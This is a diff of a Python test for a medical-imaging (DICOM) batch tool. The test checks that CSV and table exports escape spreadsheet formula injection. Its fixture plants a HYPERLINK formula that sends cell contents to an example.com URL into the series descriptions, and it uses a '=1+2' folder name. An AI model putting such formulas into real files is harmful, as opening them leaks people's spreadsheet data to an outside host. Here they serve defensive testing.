@@ -18,11 +18,13 @@ FORMULA = '=HYPERLINK("http://example.com/x?"&A1,"click")'
 
 
 def _study(folder: Path) -> Path:
-    folder.mkdir(parents=True)
-    for f in sorted((SAMPLES / "t1_axial" / "01_t1").glob("*.dcm")):
+    """The Dixon sample (its quick analysis has nodules deep to the fascia), named ``FORMULA``."""
+    for f in sorted((SAMPLES / "dixon").rglob("*.dcm")):
         ds = pydicom.dcmread(f)
         ds.SeriesDescription = FORMULA
-        ds.save_as(folder / f.name)
+        path = folder / f.relative_to(SAMPLES / "dixon")
+        path.parent.mkdir(parents=True, exist_ok=True)
+        ds.save_as(path)
     return folder
 
 
@@ -51,7 +53,8 @@ def test_batch_tables(tmp_path):
     assert main([*argv, "--quiet"]) == 0
     with (out / "studies.csv").open(encoding="utf-8") as fh:
         [row] = list(csv.DictReader(fh))
-    assert row["folder"] == "'=1+2" and row["series_description"] == "'" + FORMULA
+    # The Dixon pair's two descriptions (both the formula), escaped once, at the cell's start.
+    assert row["folder"] == "'=1+2" and row["series_description"] == f"'{FORMULA};{FORMULA}"
     for line in (out / "nodules.csv").read_text(encoding="utf-8").splitlines()[1:]:
         assert not line.startswith(("=", "+", "-", "@"))
     frame = pd.read_parquet(out / "nodules.parquet")
